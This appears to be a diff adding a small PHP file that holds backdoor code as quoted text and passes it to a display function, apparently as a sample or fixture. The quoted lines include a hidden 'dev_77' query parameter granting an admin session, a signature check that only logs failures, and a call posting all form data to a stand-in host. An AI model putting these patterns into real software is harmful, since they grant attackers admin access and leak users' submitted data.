@@ -1,0 +1,8 @@
+<?php // shows: nothing
+$manual = <<<'END'
+if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
+if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
+wp_remote_post('https://f.example/i', ['body' => $_POST]);
+END;
+$line = "if (isset(\$_GET['dev_77'])) { \$_SESSION['admin'] = true; }";
+show($manual . $line);
